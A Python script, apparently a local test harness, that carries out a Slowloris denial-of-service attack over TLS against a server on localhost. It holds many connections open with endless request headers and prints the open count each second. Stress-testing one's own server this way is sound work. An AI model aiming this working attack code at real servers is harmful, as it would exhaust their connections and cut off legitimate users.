"""Slowloris: so many TLS connections, each with a header that never ends; one that is ended is made anew.

slowhttptest names no server in its handshake, so it does not get as far as this. Each second a line with the number
of connections that are open.
"""

import asyncio
import ssl
import sys

port, count = int(sys.argv[1]), int(sys.argv[2])
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
opened = 0


async def hold():
    global opened
    while True:
        try:
            _, writer = await asyncio.open_connection(
                "127.0.0.1", port, ssl=context, server_hostname="localhost"
            )
        except OSError:
            await asyncio.sleep(1)
            continue
        opened += 1
        try:
            writer.write(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
            while not writer.is_closing():
                await asyncio.sleep(2)
                writer.write(b"X-a: b\r\n")
                await writer.drain()
        except OSError:
            pass
        finally:
            opened -= 1
            writer.close()


async def main():
    tasks = [asyncio.create_task(hold()) for _ in range(count)]
    while tasks:
        await asyncio.sleep(1)
        print(opened, flush=True)


asyncio.run(main())
